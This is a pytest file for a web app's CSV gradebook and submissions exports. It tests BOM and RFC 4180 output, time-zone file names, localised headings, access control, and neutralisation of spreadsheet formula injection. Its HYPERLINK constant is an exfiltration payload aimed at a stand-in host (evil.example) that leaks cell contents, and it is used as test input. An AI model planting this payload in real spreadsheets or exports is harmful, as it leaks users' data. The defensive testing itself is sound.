"""CSV exports: UTF-8 with a BOM, RFC 4180 quoting, formula injection neutralised, numbers kept numbers, file names."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from webapp.models import Role
from webapp.services.exports import cell, neutralise

from ..conftest import log_in
from .test_gradebook import EN, add_grade, answer, store_submission, teacher_client

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    body = response.data
    assert body.startswith(b"\xef\xbb\xbf"), body[:10]  # the byte-order mark spreadsheets look for
    assert b"\r\n" in body and b"\n" not in body.replace(b"\r\n", b"")  # RFC 4180 line ends, no bare LF
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def export(app, classroom, what: str, headers=EN):
    return teacher_client(app, classroom).get(f"/teach/courses/{classroom['course'].id}/{what}.csv", headers=headers)


# ----- the cell rules, one by one ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+7 999", "'+7 999"),
        ("-0.5", "'-0.5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tindent", "'\tindent"),
        ("\rreturn", "'\rreturn"),
        (HYPERLINK, "'" + HYPERLINK),
        ("0.6", "0.6"),
        ("Anna", "Anna"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("", ""),
        ("'quoted", "'quoted"),
    ],
)
def test_text_that_a_spreadsheet_would_run_is_neutralised(text, written):
    assert neutralise(text) == written
    assert cell(text) == written


@pytest.mark.parametrize("number", [-0.5, -3, 0, 12.75, 1e-9, True])
def test_numbers_stay_numbers(number):
    assert cell(number) == number and not isinstance(cell(number), str)


def test_nothing_is_an_empty_cell():
    assert cell(None) == ""


# ----- the gradebook ----------------------------------------------------------------------------------------------

NAMES = {
    "formula": HYPERLINK,
    "plus": "+Plus Sign",
    "minus": "-Minus Sign",
    "at": "@At Sign",
    "tab": "\tTab Start",
    "quote": 'Doe, "JJ"',
}


@pytest.fixture
def tricky_class(classroom, db_session, make_user):
    """The classroom with students whose names a spreadsheet would misread, each with a grade."""
    from webapp.models import CourseRole
    from webapp.services.courses import enrol

    students = {}
    for key, name in NAMES.items():
        students[key] = make_user(name=name)
        enrol(db_session, classroom["course"], students[key], CourseRole.STUDENT)
    students["tab"].name = NAMES["tab"]  # the app strips a name it is given; an old row may still hold one
    db_session.flush()
    add_grade(db_session, classroom["item"], students["minus"], 0.875)
    add_grade(db_session, classroom["item"], students["formula"], 0.0, override=0.5)
    add_grade(db_session, classroom["item"], classroom["alice"], 1.0, late=True)
    return {**classroom, **students}


def test_the_gradebook_export_neutralises_names_and_writes_numbers(app, tricky_class):
    response = export(app, tricky_class, "gradebook")
    rows = read_csv(response)
    assert rows[0] == ["Student", "E-mail", "Week 1: Weather survey: 15 passers-by (%)", "Total, points", "Total, %"]
    by_email = {row[1]: row for row in rows[1:]}
    assert by_email[tricky_class["minus"].email] == [
        "'-Minus Sign",
        tricky_class["minus"].email,
        "87.5",
        "0.875",
        "87.5",
    ]
    assert by_email[tricky_class["formula"].email][0] == "'" + HYPERLINK
    assert by_email[tricky_class["formula"].email][2:] == ["50.0", "0.5", "50.0"]  # the teacher's score counts
    assert by_email[tricky_class["plus"].email][0] == "'+Plus Sign"
    assert by_email[tricky_class["at"].email][0] == "'@At Sign"
    assert by_email[tricky_class["tab"].email][0] == "'\tTab Start"
    assert by_email[tricky_class["alice"].email][2:] == ["100.0", "1.0", "100.0"]
    assert by_email[tricky_class["bob"].email][2:] == ["", "0", "0.0"]  # no grade: an empty cell, total 0
    assert len(rows) == 1 + 2 + len(NAMES)
    # RFC 4180: a field with a comma or a quote is quoted, its quotes doubled.
    assert b'"Doe, ""JJ"""' in response.data
    assert b'"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"' in response.data


def test_the_gradebook_export_follows_the_pages_order(app, tricky_class):
    client = teacher_client(app, tricky_class)
    rows = read_csv(
        client.get(f"/teach/courses/{tricky_class['course'].id}/gradebook.csv?sort=total&dir=desc", headers=EN)
    )
    totals = [float(row[-2]) for row in rows[1:]]
    assert totals == sorted(totals, reverse=True) and totals[0] == 1.0


def test_file_names_carry_the_course_and_the_teachers_date(app, classroom, db_session):
    # Kiritimati is UTC+14: for most of the day its date is not UTC's, so a UTC date would show here.
    classroom["teacher"].timezone = "Pacific/Kiritimati"
    db_session.flush()
    course_id = classroom["course"].id
    before = datetime.now(ZoneInfo("Pacific/Kiritimati")).date()
    gradebook = export(app, classroom, "gradebook")
    submissions = export(app, classroom, "submissions")
    after = datetime.now(ZoneInfo("Pacific/Kiritimati")).date()
    for response, what in ((gradebook, "gradebook"), (submissions, "submissions")):
        disposition = response.headers["Content-Disposition"]
        match = re.fullmatch(rf'attachment; filename="{what}-course-{course_id}-(\d{{4}}-\d\d-\d\d)\.csv"', disposition)
        assert match, disposition
        assert match.group(1) in {before.isoformat(), after.isoformat()}
        assert (before - timedelta(days=1)).isoformat() != match.group(1)


def test_headings_are_in_the_teachers_language(app, classroom):
    rows = read_csv(export(app, classroom, "gradebook", headers={"Accept-Language": "ru"}))
    assert rows[0][:2] == ["Студент", "Электронная почта"] and rows[0][-2:] == ["Итого, баллы", "Итого, %"]
    assert rows[0][2].startswith("Week 1: Опрос о погоде")  # the assignment's own title, the exercise's in Russian


# ----- every submission -------------------------------------------------------------------------------------------


def test_the_submissions_export_keeps_typed_text_as_text_and_numbers_as_numbers(app, classroom, db_session):
    bob, alice = classroom["bob"], classroom["alice"]
    answer(app, bob, classroom["item"], "-0.5")  # read as the number -0.5: wrong, but a number
    store_submission(db_session, classroom, alice, HYPERLINK, parsed=0.25)

    rows = read_csv(export(app, classroom, "submissions"))
    header = rows[0]
    assert header == [
        "Submission",
        "Student",
        "E-mail",
        "Assignment",
        "Exercise",
        "Version",
        "Attempt",
        "Sent (UTC)",
        "Late (1 = yes)",
        "Score, %",
        "Part",
        "Typed exactly",
        "Read as",
        "Part score, %",
        "Verdict",
        "Misconception",
        "Grader version",
    ]
    column = {name: i for i, name in enumerate(header)}
    estimates = [row for row in rows[1:] if row[column["Part"]] == "p_hat"]
    by_student = {row[column["Student"]]: row for row in estimates}
    assert set(by_student) == {"Alice", "Bob"}

    bobs = by_student["Bob"]
    assert bobs[column["Typed exactly"]] == "'-0.5"  # student text: neutralised
    assert bobs[column["Read as"]] == "-0.5"  # the parsed number: untouched
    assert bobs[column["Verdict"]] == "incorrect" and bobs[column["Part score, %"]] == "0.0"
    assert bobs[column["Attempt"]] == "1" and bobs[column["Late (1 = yes)"]] == "0"
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", bobs[column["Sent (UTC)"]])

    alices = by_student["Alice"]
    assert alices[column["Typed exactly"]] == "'" + HYPERLINK
    assert alices[column["Read as"]] == "0.25"
    # Every part of Bob's submission has its own row: the three guided steps (formulas) and the estimate.
    bob_parts = [row[column["Part"]] for row in rows[1:] if row[column["Student"]] == "Bob"]
    assert sorted(bob_parts) == ["likelihood", "loglik", "p_hat", "score"]
    steps = {row[column["Part"]]: row for row in rows[1:] if row[column["Student"]] == "Bob"}
    assert steps["loglik"][column["Typed exactly"]] == "9*ln(p) + 6*ln(1-p)"
    assert steps["loglik"][column["Verdict"]] == "correct"
    assert bobs[column["Score, %"]] == "75.0"


def test_a_course_without_submissions_exports_the_header_only(app, classroom):
    rows = read_csv(export(app, classroom, "submissions"))
    assert len(rows) == 1 and rows[0][0] == "Submission"


def test_exports_hold_only_the_courses_own_students(
    app, classroom, db_session, make_user, make_course, make_assignment
):
    from webapp.models import CourseRole
    from webapp.services.courses import enrol

    other_teacher = make_user(Role.TEACHER, name="Oleg Other")
    other_course = make_course(other_teacher, title="Other course")
    make_assignment(other_course)
    stranger = make_user(name="Stranger Danger")
    enrol(db_session, other_course, stranger, CourseRole.STUDENT)
    answer(app, classroom["alice"], classroom["item"], "0.6")

    gradebook = read_csv(export(app, classroom, "gradebook"))
    submissions = read_csv(export(app, classroom, "submissions"))
    assert "Stranger Danger" not in str(gradebook) + str(submissions)
    assert {row[1] for row in submissions[1:]} == {"Alice"}

    client = app.test_client()
    log_in(client, other_teacher)
    for what in ("gradebook", "submissions"):
        refused = client.get(f"/teach/courses/{classroom['course'].id}/{what}.csv")
        assert refused.status_code == 403 and b"Alice" not in refused.data
